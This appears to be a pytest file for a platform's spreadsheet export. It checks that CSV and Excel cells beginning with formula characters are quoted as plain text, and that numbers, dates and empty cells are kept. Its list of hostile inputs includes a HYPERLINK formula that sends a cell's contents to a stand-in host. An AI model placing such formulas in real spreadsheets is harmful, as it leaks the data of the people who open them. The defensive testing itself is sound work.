"""The one rule for text in the spreadsheets the platform writes, read back as Excel's readers would: csv and
openpyxl, and the sheet's XML itself (a formula there is an <f> element)."""
import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from eventhub.spreadsheets import CsvWriter, neutralise, put, put_row

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=1", "-", "+84 912 345 678"]


@pytest.mark.parametrize(("value", "expected"), [
    *((text, "'" + text) for text in HOSTILE),
    ("Ngày hội khởi nghiệp = sáng tạo", "Ngày hội khởi nghiệp = sáng tạo"),  # only a first character counts
    (" =1", " =1"),
    ("'=1", "'=1"),  # already quoted by the person: left as typed
    ("", ""),
    ("#N/A", "#N/A"),
    (-2, -2),  # numbers are numbers, negative ones too
    (1.5, 1.5),
    (None, None),
    (date(2026, 6, 30), date(2026, 6, 30)),
])
def test_neutralise_quotes_exactly_what_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected


def test_csv_writer_quotes_every_cell_and_writes_excel_utf8():
    writer = CsvWriter()
    writer.writerow(["Tên sự kiện", *HOSTILE[:5]])
    writer.writerows([[1, -2, "Đắk Lắk"], []])
    data = writer.data()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 3
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["Tên sự kiện", *("'" + text for text in HOSTILE[:5])], ["1", "-2", "Đắk Lắk"], []]


def read_back(workbook: Workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(buffer).active, xml


def test_put_writes_text_as_text_never_a_formula_or_an_error():
    workbook = Workbook()
    put_row(workbook.active, 1, [*HOSTILE, "#N/A", "Hợp tác xã\x01 Ea Kar\x1f", "Bình thường"])
    sheet, xml = read_back(workbook)
    assert "<f>" not in xml and 't="e"' not in xml
    cells = list(sheet[1])
    as_read = [text.replace("\r", "\n") for text in HOSTILE]  # XML reads a carriage return as a line feed
    assert [c.value for c in cells] == [*as_read, "#N/A", "Hợp tác xã Ea Kar", "Bình thường"]
    assert {c.data_type for c in cells} == {"s"}
    # Excel's mark for a text typed after an apostrophe: editing the cell keeps it text
    assert [c.quotePrefix for c in cells] == [True] * len(HOSTILE) + [False, False, False]


def test_put_keeps_numbers_dates_and_empty_cells():
    workbook = Workbook()
    put_row(workbook.active, 2, [-2, 1534, 0.278, datetime(2026, 3, 10, 8, 0), None])
    sheet, _xml = read_back(workbook)
    cells = [sheet.cell(2, column) for column in range(1, 6)]
    assert [c.value for c in cells] == [-2, 1534, 0.278, datetime(2026, 3, 10, 8, 0), None]
    assert [c.data_type for c in cells][:4] == ["n", "n", "n", "d"]
    assert put(workbook.active, 3, 1, "=A1").value == "=A1"  # the cell returned is the one written
